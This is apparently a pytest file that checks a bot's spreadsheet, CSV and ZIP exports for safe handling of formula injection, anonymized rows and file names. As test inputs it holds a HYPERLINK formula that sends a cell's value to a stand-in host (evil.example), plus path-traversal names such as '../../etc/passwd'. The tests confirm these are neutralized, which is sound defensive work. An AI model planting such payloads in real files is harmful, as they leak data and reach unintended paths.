"""The export files themselves: types, formula injection, anonymized rows, ZIP parts."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
from sqlalchemy import Engine
from sqlmodel import Session

from bot.db.models import Application, Cohort, Product, Provider, Seller
from bot.reports.document_zip import Fetched, pack_zips, safe_name
from bot.reports.exports import write_csv, write_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def seed(engine: Engine) -> int:
    """A cohort with a seller's hostile answers, an IDR product and an anonymized row."""
    with Session(engine) as session:
        provider = Provider(name="P")
        session.add(provider)
        session.flush()
        cohort = Cohort(provider_id=provider.id or 0, market="id", name="C", join_token="t")
        seller = Seller(telegram_user_id=42, chat_id=42)
        session.add_all([cohort, seller])
        session.flush()
        answers = {"company_name": HOSTILE, "nib": "@SUM(1)", "incorporation_date": "2019-03-14"}
        live = Application(seller_id=seller.id, cohort_id=cohort.id, state="submitted",
                           track="id_business", market="id", answers=answers)  # fmt: skip
        gone = Application(seller_id=None, cohort_id=cohort.id, state="rejected", market="id")
        session.add_all([live, gone])
        session.flush()
        session.add(Product(application_id=live.id or 0, position=1, title="-1+1",
                            price="150000", currency="IDR"))  # fmt: skip
        session.commit()
        return cohort.id or 0


def test_xlsx_cells_are_typed_and_never_formulas(engine: Engine, tmp_path: Path) -> None:
    cohort_id = seed(engine)
    with Session(engine) as session:
        done = write_xlsx(session, cohort_id=cohort_id, path=tmp_path / "x.xlsx")
    assert (done.applications, done.products, done.documents) == (2, 1, 0)
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    sheet = book["applications"]
    header = [c.value for c in sheet[1]]
    live = dict(zip(header, sheet[2], strict=True))
    gone = dict(zip(header, sheet[3], strict=True))
    assert live["company_name"].value == HOSTILE and live["company_name"].data_type == "s"
    assert live["company_name"].quotePrefix and live["nib"].data_type == "s"
    assert isinstance(live["incorporation_date"].value, dt.datetime)  # a date cell
    assert live["seller_telegram_id"].value == 42
    assert gone["seller_telegram_id"].value is None and gone["company_name"].value is None
    product = dict(zip([c.value for c in book["products"][1]], book["products"][2], strict=True))
    assert product["title"].data_type == "s" and product["title"].value == "-1+1"
    assert product["price"].value == 150000 and "Rp" in product["price"].number_format


def test_csv_has_a_bom_and_quotes_formula_starts(engine: Engine, tmp_path: Path) -> None:
    cohort_id = seed(engine)
    with Session(engine) as session:
        write_csv(session, cohort_id=cohort_id, path=tmp_path / "x.csv")
    data = (tmp_path / "x.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    live, gone = csv.DictReader(io.StringIO(data.decode("utf-8-sig")))
    assert live["company_name"] == "'" + HOSTILE and live["nib"] == "'@SUM(1)"
    assert live["incorporation_date"] == "2019-03-14"
    assert gone["state"] == "rejected" and gone["seller_telegram_id"] == ""


def test_member_names_are_safe_and_unique() -> None:
    assert safe_name("licence", "../../etc/passwd", "application/pdf") == "licence_passwd.pdf"
    assert safe_name("licence", "营业执照.PDF", "application/pdf") == "licence.pdf"
    assert safe_name("ktp", "", "image/jpeg") == "ktp.jpg"
    assert safe_name("id", "..\\x.exe ", "application/octet-stream") == "id_x.exe"


def test_files_too_large_together_are_split_under_the_limit(tmp_path: Path) -> None:
    files = []
    for number in range(3):
        path = tmp_path / f"f{number}"
        path.write_bytes(bytes([number]) * 4000)
        files.append(Fetched("step", "same.pdf", "application/pdf", path))
    parts = pack_zips(files, tmp_path, stem="application-7", limit=10_000)
    assert [p.name for p in parts] == ["application-7-part1.zip", "application-7-part2.zip"]
    names = []
    for part in parts:
        assert part.stat().st_size <= 10_000
        with zipfile.ZipFile(part) as archive:
            names += archive.namelist()
    assert names == ["step_same.pdf", "step_same-2.pdf", "step_same-3.pdf"]
    assert pack_zips([], tmp_path, stem="none") == []
